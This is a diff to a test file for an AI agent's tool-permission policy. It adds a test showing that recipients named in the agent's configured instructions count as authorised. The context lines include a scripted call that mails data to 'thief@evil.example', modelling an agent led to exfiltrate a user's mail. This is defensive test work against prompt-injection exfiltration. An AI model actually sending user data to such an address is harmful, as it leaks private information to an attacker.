@@ -200,6 +200,17 @@ def test_writes_spends_and_code_need_the_user_or_the_policy() -> None:
     assert [d[0] for d in DONE] == ["code.exec"]
 
 
+def test_targets_in_the_agents_instructions_count_as_named() -> None:
+    DONE.clear()
+    config = AgentConfig(
+        name="reporter", instructions="Send every report to boss@corp.example. Be brief."
+    )
+    send = ToolCall("s", "mail.send", {"to": "boss@corp.example", "body": "report"})
+    agent = Agent(config, [obeying(READ, send)], tools=TOOLS)
+    agent.run("Summarize my mail as a report")
+    assert [d[0] for d in DONE] == ["mail.send"]
+
+
 def test_allow_tools_and_deny_mode() -> None:
     send = ToolCall("s", "mail.send", {"to": "thief@evil.example", "body": "x"})
     run(obeying(READ, send), "Summarize my mail", allow_tools=["mail.*"])
